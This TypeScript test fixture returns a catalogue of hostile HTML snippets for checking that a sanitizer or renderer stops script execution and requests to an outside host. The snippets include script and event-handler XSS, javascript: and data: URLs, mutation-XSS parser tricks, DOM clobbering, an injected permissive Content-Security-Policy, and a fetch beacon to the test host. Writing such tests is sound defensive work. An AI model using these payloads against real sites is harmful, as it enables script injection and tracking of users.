/** Pages that want to run something, to ask `there` for something, or to lead elsewhere. `ran` is set where a script runs. */
export function hostilePages(there: string): readonly (readonly [what: string, html: string])[] {
  const run = `top.ran=parent.ran=self.ran=1;fetch('${there}/ran')`
  return [
    [
      'scripts',
      `<script>${run}</script><script src="${there}/a.js"></script><script type="module">${run}</script>`,
    ],
    ['handlers', `<img src="x:" onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">`],
    [
      'vectors',
      `<svg onload="${run}"><image href="${there}/b.svg"/><script>${run}</script><use href="${there}/c.svg#d"/></svg>`,
    ],
    [
      'vector links',
      `<svg><a xlink:href="javascript:${run}"><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
    ],
    [
      'formulas',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${there}/e onerror=${run}&gt;">`,
    ],
    [
      'templates',
      `<template><img src="${there}/f" onerror="${run}"></template><noscript><p title="</noscript><img src=${there}/g onerror=${run}>"></noscript>`,
    ],
    [
      'pictures',
      `<img src="${there}/h.png"><img srcset="${there}/i.png 1x, ${there}/j.png 2x"><picture><source srcset="${there}/k.webp"><img src="//${there.slice(7)}/l"></picture>`,
    ],
    [
      'old pictures',
      `<body background="${there}/m.png"><table background="${there}/n.png"><tr><td background="${there}/o.png">x</table><input type="image" src="${there}/p.png">`,
    ],
    [
      'style sheets',
      `<link rel="stylesheet" href="${there}/q.css"><style>@import url(${there}/r.css);body{background:url(${there}/s.png)}</style>`,
    ],
    [
      'styles',
      `<p style="background:url(${there}/t.png);list-style:url(${there}/u.png)">x</p><style>@font-face{font-family:z;src:url(${there}/v.woff)}p{font-family:z}</style>`,
    ],
    [
      'sound and film',
      `<video src="${there}/w.mp4" poster="${there}/x.png" autoplay></video><audio src="${there}/y.mp3" autoplay></audio><track src="${there}/z.vtt">`,
    ],
    [
      'frames',
      `<iframe src="${there}/1"></iframe><iframe srcdoc="<script>${run}</script><img src=${there}/2>"></iframe><object data="${there}/3"></object><embed src="${there}/4">`,
    ],
    [
      'hints',
      `<link rel="preload" as="image" href="${there}/5.png"><link rel="prefetch" href="${there}/6"><link rel="preconnect" href="${there}"><link rel="dns-prefetch" href="${there}"><link rel="icon" href="${there}/7.ico"><link rel="manifest" href="${there}/8">`,
    ],
    [
      'newer hints',
      `<link rel="modulepreload" href="${there}/20.js"><link rel="prerender" href="${there}/21"><link rel="preload" as="image" imagesrcset="${there}/22.png 1x"><script type="speculationrules">{"prefetch":[{"urls":["${there}/23"],"eagerness":"immediate"}]}</script>`,
    ],
    [
      'newer styles',
      `<p style="background:image-set(url(${there}/24.png) 1x);cursor:url(${there}/25.cur),auto;mask:url(${there}/26.svg);filter:url(${there}/27.svg#a);content:url(${there}/28.png)">x</p><style>:root{--a:url(${there}/29.png)}p{background:var(--a);border-image:url(${there}/30.png) 1;shape-outside:url(${there}/31.png)}</style>`,
    ],
    [
      'shadows',
      `<div><template shadowrootmode="open"><style>@import url(${there}/32.css)</style><img src="${there}/33" onerror="${run}"></template></div>`,
    ],
    [
      'pictures in vectors',
      `<svg><filter id="f"><feImage href="${there}/34.png"/></filter><pattern><image xlink:href="${there}/35.png"/></pattern><style>@import url(${there}/36.css);</style><foreignObject><img src="${there}/37"></foreignObject><script href="${there}/38.js"></script><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    [
      'forgotten tags',
      `<bgsound src="${there}/39.mid"><applet code="${there}/40"></applet><frameset><frame src="${there}/41"></frameset><img lowsrc="${there}/42" dynsrc="${there}/43" longdesc="${there}/44"><fencedframe src="${there}/45"></fencedframe><img attributionsrc="${there}/46" src="x:"><input type="image" formaction="${there}/47" src="${there}/48">`,
    ],
    [
      'other places',
      `<meta http-equiv="refresh" content="0;url=${there}/9"><base href="${there}/"><img src="10.png"><a href="11" ping="${there}/12" autofocus>x</a>`,
    ],
    [
      'forms',
      `<form id="f" action="${there}/13"><input name="a" autofocus onfocus="${run}"><button>x</button></form><form action="javascript:${run}"><input type="submit" autofocus></form>`,
    ],
    [
      'another policy',
      `</body></html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"><script>${run}</script></head><body><img src="${there}/14">`,
    ],
    [
      'clobbering',
      `<form name="document"><input name="createElement"></form><img name="body" src="${there}/15"><a id="trustedTypes"></a><a id="location" href="${there}/16"></a>`,
    ],
    [
      'addresses',
      `<a href="javascript:${run}" id="go">x</a><a href="data:text/html,<script>${run}</script>">y</a><iframe src="javascript:${run}"></iframe><img src="cid:${there}/17"><img src="javascript:${run}">`,
    ],
  ]
}
